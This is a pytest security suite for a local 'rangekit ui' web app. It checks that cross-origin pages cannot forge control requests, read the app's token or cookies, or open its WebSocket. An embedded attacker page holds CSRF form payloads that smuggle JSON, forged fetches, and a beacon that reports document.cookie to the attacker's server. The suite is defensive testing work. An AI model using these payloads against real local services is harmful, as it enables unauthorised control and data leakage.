"""Another program on this machine gets nothing (issue 48): a page served by any other local port posts forms
and no-cors fetches to the app, loads its images, opens its WebSocket, and reads what cookies the browser sends
it; a second ``rangekit ui`` in the same browser leaves the first alone; a tab left open across a restart says
so. Real headless Chromium, the real server, the attacker's page on a second local HTTP server."""

from __future__ import annotations

import json
import socket
import time

import pytest

from support.attacker_server import AttackerServer
from support.chromium import chromium_paths, open_page
from support.ui_server import start_ui

pytestmark = pytest.mark.skipif(chromium_paths() is None, reason="headless browser missing: apt-get install "
                                "chromium chromium-driver (`make test` installs them when run as root)")

#: The attacker's page: every request a page of another origin can make without the app's script.
_ATTACK = """<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="form" method="POST" action="APP/api/turntable" enctype="text/plain" target="sink">
<input name='{"degrees": 90, "x": "' value='"}'></form>
<form id="form2" method="POST" action="APP/api/scan/start" enctype="text/plain" target="sink">
<input name='{"name": "forged-form", "views": 2, "x": "' value='"}'></form>
<img id="figure" src="APP/api/check/figure.png"><img id="status" src="APP/api/status">
<script>
function log(k, v) { new Image().src = "/log?" + encodeURIComponent(k) + "=" + encodeURIComponent(v); }
document.getElementById("form").submit();
setTimeout(() => document.getElementById("form2").submit(), 100);
async function attack() {
  const posts = [["/api/turntable", '{"degrees": 90}'], ["/api/pattern", '{"name": "black"}'],
                 ["/api/camera", '{"exposure_us": 100}'], ["/api/scan/start", '{"name": "forged", "views": 2}']];
  for (const [p, b] of posts) {
    await fetch("APP" + p, {method: "POST", mode: "no-cors", body: b}).then(() => log("nocors" + p, "sent"), () => log("nocors" + p, "error"));
    await fetch("APP" + p, {method: "POST", mode: "no-cors", credentials: "include",
                            headers: {"Content-Type": "application/json"}, body: b}).catch(() => 0);
    await fetch("APP" + p, {method: "POST", credentials: "include",
                            headers: {"Content-Type": "application/json", "X-Rangekit-Token": "guess"}, body: b})
      .then((r) => log("cors" + p, "status " + r.status), () => log("cors" + p, "blocked"));
  }
  await fetch("APP/api/status", {credentials: "include"}).then((r) => log("read", "status " + r.status), () => log("read", "blocked"));
  await new Promise((done) => {
    const ws = new WebSocket("APP".replace("http:", "ws:") + "/ws/live");
    ws.onopen = () => { log("ws", "open"); done(); }; ws.onerror = () => { log("ws", "refused"); done(); };
  });
  log("cookie", document.cookie || "none");
  for (const id of ["figure", "status"]) { const im = document.getElementById(id); log(id, im.naturalWidth > 0 ? "loaded" : "failed"); }
  log("done", "1");
}
setTimeout(attack, 500);
</script></body></html>"""

_READY = ("return document.getElementById('rig-source').textContent.length > 0 && "
          "document.getElementById('banner').hidden && {search: location.search, cookie: document.cookie, "
          "stored: sessionStorage.getItem('rangekit-token')};")


def _status(server) -> dict:
    return json.loads(server.request("/api/status")[1])["rig"]


def test_another_local_pages_forged_requests_do_nothing_and_see_no_token(tmp_path):
    sessions = tmp_path / "sessions"
    sessions.mkdir()
    server = start_ui(sessions)
    rig_before = (sessions / "sim-rig.json").read_text()
    try:
        with AttackerServer({}) as attacker:
            attacker.pages["/attack.html"] = _ATTACK.replace("APP", server.base)

            def visit(page):
                out = {"app": page.until(_READY)}
                page.goto(attacker.base + "/attack.html")
                page.until("return true;")
                out["history"] = page.execute("return history.length;")
                deadline = time.monotonic() + 60
                while not attacker.reports("done") and time.monotonic() < deadline:
                    time.sleep(0.2)
                page.goto(server.base + "/")             # back to the app, its token in this tab's storage
                out["back"] = page.until(_READY)
                page.execute("document.querySelector('[data-name=checker]').click();")
                out["checker"] = page.until("return document.querySelector('[data-name=checker]')"
                                            ".classList.contains('on');")
                return out

            seen = open_page(server.url, width=1200, height=800, timeout_s=180, interact=visit)["interaction"]
            requests = list(attacker.requests)
        rig, scan = _status(server), json.loads(server.request("/api/scan")[1])
    finally:
        log = server.stop()
    got = {k: v for r in requests if r["path"] == "/log" for k, vs in r["query"].items() for v in vs}
    # The page took the token out of the address bar and keeps it in this tab's storage only; no cookie.
    assert seen["app"]["search"] == "" and seen["app"]["cookie"] == "" and seen["app"]["stored"] == server.token
    assert seen["back"]["stored"] == server.token and seen["checker"]
    # The attacker's page: every try refused or unreadable, its browser sent it no cookie of the app's.
    assert got["done"] == "1", got
    for path in ("/api/turntable", "/api/pattern", "/api/camera", "/api/scan/start"):
        assert got[f"cors{path}"] == "blocked", got          # the preflight is never granted
    assert got["read"] == "blocked" and got["ws"] == "refused" and got["cookie"] == "none"
    assert got["figure"] == "failed" and got["status"] == "failed"
    assert not any("cookie" in r["headers"] for r in requests), [r["headers"] for r in requests]
    assert not any(server.token in json.dumps(r) for r in requests)
    # ... and nothing happened to the rig: the turntable home, the pattern the app's own click chose, the rig
    # file as it was, no scan.
    assert rig["turntable"]["angle_deg"] == 0.0 and rig["pattern"] == "checker" and scan["name"] is None
    assert (sessions / "sim-rig.json").read_text() == rig_before
    assert not (sessions / "forged").exists() and not (sessions / "forged-form").exists()
    assert "Traceback" not in log


def test_the_forged_requests_change_nothing_on_the_rig(tmp_path):
    """The same forged requests as the attacker's page sends them (its Origin, text/plain, no token header), read
    back from the rig: the turntable, the pattern, the rig file, the scan."""
    server = start_ui(tmp_path)
    try:
        other = "http://127.0.0.1:1"
        for path, body in (("/api/turntable", b'{"degrees": 90}'), ("/api/pattern", b'{"name": "black"}'),
                           ("/api/camera", b'{"exposure_us": 100}'), ("/api/scan/start", b'{"name": "f", "views": 2}')):
            for headers in ({"Origin": other, "Content-Type": "text/plain"},
                            {"Origin": other, "Content-Type": "application/json"},
                            {"Origin": "null", "Content-Type": "application/json"},
                            {"Origin": server.base, "Content-Type": "text/plain;charset=UTF-8"},
                            {"Origin": server.base, "Content-Type": "application/x-www-form-urlencoded"}):
                status, reply, _ = server.request(path, raw=body, headers=headers)
                assert status == 403, (path, headers, reply)
            status, reply, _ = server.request(path, raw=body, token=None)     # the app's origin, no token
            assert status == 403 and b"token missing or wrong" in reply
        status, reply, _ = server.request("/api/turntable", raw=b"{}", method="OPTIONS",
                                          headers={"Origin": other, "Access-Control-Request-Method": "POST"})
        assert status == 403 and "access-control-allow-origin" not in {k.lower() for k in _}
        rig = _status(server)
        assert rig["turntable"]["angle_deg"] == 0.0 and rig["pattern"] == "white"
        assert "exposure_us" not in rig["controls"] and not json.loads(server.request("/api/scan")[1])["name"]
    finally:
        server.stop()


def test_a_second_rangekit_ui_in_the_same_browser_leaves_the_first_alone(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first, second = start_ui(tmp_path / "a"), None
    try:
        second = start_ui(tmp_path / "b")

        def both(page):
            page.until(_READY)
            page.goto(second.url)
            on_second = page.until(_READY)
            page.goto(first.base + "/")             # the first app again, in the same tab
            on_first = page.until(_READY)
            page.execute("document.querySelector('[data-name=checker]').click();")
            page.until("return document.querySelector('[data-name=checker]').classList.contains('on');")
            return on_first, on_second

        on_first, on_second = open_page(first.url, width=1200, height=800, timeout_s=180,
                                        interact=both)["interaction"]
        assert on_first["stored"] == first.token and on_second["stored"] == second.token
        assert on_first["cookie"] == on_second["cookie"] == ""
        assert _status(first)["pattern"] == "checker" and _status(second)["pattern"] == "white"
    finally:
        first.stop()
        if second is not None:
            second.stop()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_a_tab_left_open_across_a_restart_says_to_open_the_new_url(tmp_path):
    port = _free_port()
    servers = [start_ui(tmp_path, port=port)]
    try:
        def restart(page):
            page.until(_READY)
            servers[0].stop()
            gone = page.until("const b = document.getElementById('banner');"
                              "return !b.hidden && b.textContent.includes('does not answer') && b.textContent;")
            servers.append(start_ui(tmp_path, port=port))
            stale = page.until("const b = document.getElementById('banner');"
                               "return !b.hidden && b.textContent.includes('restarted') && b.textContent;")
            live = page.until("const w = document.getElementById('live-waiting');"
                              "return w.textContent.includes('new URL') && w.textContent;")
            page.goto(servers[1].url)
            again = page.until(_READY)
            return gone, stale, live, again

        gone, stale, live, again = open_page(servers[0].url, width=1200, height=800, timeout_s=240,
                                             interact=restart)["interaction"]
    finally:
        for s in servers:
            s.stop()
    assert gone == "The server does not answer: reconnecting."
    assert stale.startswith("The server restarted") and "Open the new URL rangekit ui printed" in stale
    assert "open the new URL it printed" in live and again["stored"] == servers[1].token
